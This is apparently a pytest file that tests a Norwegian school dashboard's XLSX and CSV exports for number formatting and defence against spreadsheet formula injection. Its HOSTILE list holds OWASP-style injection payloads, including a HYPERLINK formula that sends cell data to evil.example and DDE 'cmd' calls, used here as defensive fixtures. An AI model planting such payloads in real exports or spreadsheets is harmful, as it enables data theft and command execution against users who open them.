"""The downloads (dashboards/export.py): numbers are number cells with Norwegian-readable formats,
rows stay in the screen's order, and no text cell can become a formula (OWASP, CSV injection).

The workbook is read back with openpyxl and the CSV with the csv module, as a user's spreadsheet
would read them; the expected values are written out here.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import polars as pl
import pytest

from dashboards.export import to_csv_bytes, to_xlsx_bytes
from presentation.formatting import Figure

# Each of OWASP's formula triggers at the start of a school name or reporter label.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROWS = [
    {"Skole": "Ås ungdomsskole", "Verdi (%)": Figure(13.7, 1), "Elever (antall)": Figure(1234.0, 0), "Merknad": ""},
    *(
        {"Skole": name, "Verdi (%)": "skjermet (færre enn 10 svar)", "Elever (antall)": 7, "Merknad": name}
        for name in HOSTILE
    ),
    {"Skole": "Bø skole", "Verdi (%)": Figure(2.0, 1), "Elever (antall)": Figure(80.0, 0), "Merknad": None},
]


def _sheet(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    return [list(r) for r in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]


def _text(cell: openpyxl.cell.cell.Cell) -> object:
    """A cell's value as Excel reads it: OOXML writes a carriage return as ``_x000D_``, which Excel
    decodes and openpyxl leaves as it is."""
    return (
        re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), cell.value)
        if isinstance(cell.value, str)
        else cell.value
    )


def test_numbers_are_number_cells_with_their_decimals_and_the_unit_in_the_heading() -> None:
    rows = _sheet(to_xlsx_bytes(ROWS, title="Test"))
    assert [c.value for c in rows[0]] == ["Skole", "Verdi (%)", "Elever (antall)", "Merknad"]
    first = rows[1]
    assert first[1].data_type == "n" and first[1].value == pytest.approx(13.7)
    assert first[1].number_format == "#,##0.0"  # Norwegian Excel shows "13,7"
    assert first[2].data_type == "n" and first[2].value == 1234
    assert first[2].number_format == "#,##0"  # "1 234"
    assert rows[2][2].value == 7 and rows[2][2].data_type == "n"  # a plain int is a number too
    assert rows[2][1].value == "skjermet (færre enn 10 svar)"  # words stay words
    # the rows in the order given (the screen's)
    assert [_text(r[0]) for r in rows[1:]] == [r["Skole"] for r in ROWS]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_cell_becomes_a_formula_in_the_workbook(name: str) -> None:
    rows = _sheet(to_xlsx_bytes(ROWS, title=name, notes=[name]))
    cells = [c for r in rows for c in r if _text(c) == name]
    assert len(cells) == 2  # the school and the note column, the text kept exactly
    for cell in cells:
        assert cell.data_type == "s"  # text, not "f" (formula)
        assert cell.quotePrefix  # Excel keeps it text if the cell is edited
    about = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(ROWS, title=name, notes=[name])))["Om uttrekket"]
    assert all(c.data_type == "s" for r in about.iter_rows() for c in r if c.value)


def test_the_csv_has_decimal_commas_and_neutralised_formula_triggers() -> None:
    text = to_csv_bytes(ROWS).decode("utf-8")
    assert text.startswith("\ufeff")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert rows[0] == ["Skole", "Verdi (%)", "Elever (antall)", "Merknad"]
    assert rows[1][:3] == ["Ås ungdomsskole", "13,7", "1234"]
    for row, name in zip(rows[2:], HOSTILE):
        assert row[0] == "'" + name and row[3] == "'" + name  # OWASP: a leading single quote
    assert rows[-1] == ["Bø skole", "2,0", "80", ""]


def test_a_frame_downloads_the_same_way() -> None:
    frame = pl.DataFrame({"Område": ["=1+1", "Vestre"], "Rader": [12, 3400]})
    rows = _sheet(to_xlsx_bytes(frame))
    assert rows[1][0].data_type == "s" and rows[1][0].value == "=1+1"
    assert rows[2][1].data_type == "n" and rows[2][1].value == 3400
    lines = to_csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert lines == ["Område;Rader", "'=1+1;12", "Vestre;3400"]
